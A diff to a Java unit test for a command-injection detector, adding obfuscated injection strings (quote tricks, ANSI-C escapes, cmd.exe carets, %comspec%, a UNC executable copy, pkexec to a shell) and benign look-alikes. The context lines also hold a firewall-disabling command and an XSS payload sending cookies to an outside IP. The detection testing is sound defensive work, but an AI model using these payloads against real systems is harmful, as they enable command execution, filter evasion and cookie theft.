@@ -55,6 +55,24 @@ class CommandInjectionTest {
         "reg query hklm\\software",
         "ipconfig /all",
         "netsh advfirewall set allprofiles state off",
+        // quote removal when the word starts with the quoted part; ANSI-C quoting; cmd.exe's ^ escape
+        "x;\"u\"name -a",
+        "x;'who'ami",
+        "x;$'\\x75\\x6e\\x61\\x6d\\x65' -a",
+        "x;$'\\151\\144'",
+        "x & c^m^d /c ver",
+        "x & who^ami",
+        // a program under a Windows directory variable, a UNC argument
+        "x & %systemroot%\\system32\\ipconfig.exe",
+        "x & %comspec% /c ver",
+        "x & copy \\\\files.example\\share\\a.exe c:\\a.exe",
+        // the broader command list: database shells, interpreters, privilege tools
+        "x;sqlite3 /tmp/a.db .tables",
+        "x | mysql -u root",
+        "x;pkexec /bin/sh",
+        // a program by a relative path
+        "x;./backdoor",
+        "x | ./run.sh -v",
     })
     void detects(String value) {
         assertThat(CommandInjection.detect(value)).as(value).isPresent();
@@ -94,6 +112,15 @@ class CommandInjectionTest {
         // a URL's '?' is a query, not a glob: an XSS payload that fetches a URL is no command
         "<img src=x onerror=fetch('//198.51.100.9/c?'+document.cookie)>",
         "go(//cdn.example.net/a?b)",
+        "to;cc",
+        "1200 rpm",
+        "a ^ b",
+        "50% off; 20% later",
+        "'quoted' words",
+        "kubernetes; docker",
+        "see ./docs and ./readme",
+        "a;./",
+        "(./a)",
     })
     void ignores(String value) {
         assertThat(CommandInjection.detect(value)).as(value).isEmpty();
@@ -104,6 +131,11 @@ class CommandInjectionTest {
         // the decoded form compressed the line break to a space; the raw form still says where it was
         assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%0aid")).isPresent();
         assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%20id")).isEmpty();
+    }
+
+    @Test
+    void readsALineContinuationInsideAWord() {
+        assertThat(CommandInjection.detect("x; un ame -a", "x%3B%20un%5C%0Aame%20-a")).isPresent();
     }
 
     @Test
